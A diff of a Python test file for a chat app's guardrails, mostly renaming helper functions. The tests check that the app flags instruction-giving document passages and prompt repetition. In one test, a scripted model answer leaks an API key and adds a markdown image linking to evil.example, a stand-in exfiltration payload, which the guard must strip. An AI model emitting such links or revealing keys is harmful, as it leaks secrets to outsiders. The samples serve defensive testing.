@@ -1,4 +1,4 @@
-"""What the guards see is noted and tightens what a model may do; it refuses nothing by itself."""
+"""Findings of the guards are noted and tighten what a model may do; they refuse nothing alone."""
 
 import json
 from pathlib import Path
@@ -15,8 +15,8 @@ from chat.guardrails.flagging import flag
 from chat.log import stream
 from chat.log.events import Kind
 from chat.models import Turn
-from chat.tests.conftest import ask, entries, saved, text_of
-from chat.tests.scripted_model import results, scripted
+from chat.tests.conftest import ask, entries, reload_turn, text_of
+from chat.tests.scripted_model import results, script_model
 from chat.turns.beginning import Choices, Question
 from documents.tests.library import ready_document
 
@@ -73,7 +73,7 @@ async def test_a_passage_that_gives_orders_is_told_to_the_reader(alice: User) ->
     )
     await entries(accepted.turn)
     # The model repeats its prompt, which is noted as well.
-    found, repeated = (await saved(accepted.turn)).flags
+    found, repeated = (await reload_turn(accepted.turn)).flags
     assert (found["source"], found["document"]) == ("passage", str(document.pk))
     assert (repeated["source"], repeated["rules"]) == ("answer", ["fence"])
     page = AsyncClient()
@@ -104,7 +104,7 @@ async def test_a_model_that_tells_its_instructions_and_keys_is_cut(alice: User, 
         return f"{sent} {settings.OPENAI_API_KEY} ![x](https://evil.example/?q=vacation)"
 
     await in_db(ready_document, alice, ["The vacation is 30 days."])
-    async with scripted(settings, plan):
+    async with script_model(settings, plan):
         settings.OPENAI_API_KEY = "sk-of-this-site-0123"
         question = Question("How long is the vacation?", "")
         accepted = await asking.ask_once(alice, question, Choices("worker"))
@@ -113,7 +113,7 @@ async def test_a_model_that_tells_its_instructions_and_keys_is_cut(alice: User, 
     assert "<passages [removed]>" in said
     assert "sk-of-this-site" not in json.dumps([entry.data for entry in found])
     assert "![" not in said
-    turn = await saved(accepted.turn)
+    turn = await reload_turn(accepted.turn)
     assert turn.message.content == said
     assert turn.flags[-1]["rules"] == ["fence", "remote_image", "secret"]
 
@@ -126,7 +126,7 @@ async def test_after_a_flagged_question_nothing_leaves_without_its_users_word(
     def plan(body):
         return results(body)[0] if results(body) else [("weather", {"place": "Seoul"})]
 
-    async with scripted(settings, plan):
+    async with script_model(settings, plan):
         choices = Choices("worker", collections=[], tools=["weather"])
         accepted = await asking.ask_once(alice, Question(ATTACK, ""), choices)
         found = await entries(accepted.turn)
@@ -146,12 +146,12 @@ async def test_a_call_is_told_afterwards_as_it_was_told_live(alice: User, settin
     def plan(body):
         return "Done." if results(body) else [("calculator", {"expression": "1/0"})]
 
-    async with scripted(settings, plan):
+    async with script_model(settings, plan):
         choices = Choices("worker", collections=[])
         accepted = await asking.ask_once(alice, Question("Divide.", ""), choices)
         live = await entries(accepted.turn)
     await async_redis().delete(stream.key(accepted.turn.pk))
-    kept = await entries(await saved(accepted.turn))
+    kept = await entries(await reload_turn(accepted.turn))
     told = [[e.data for e in each if e.kind == Kind.TOOL_RESULT] for each in (live, kept)]
     assert told[0] == told[1]
     assert told[0][0]["failed"] is True
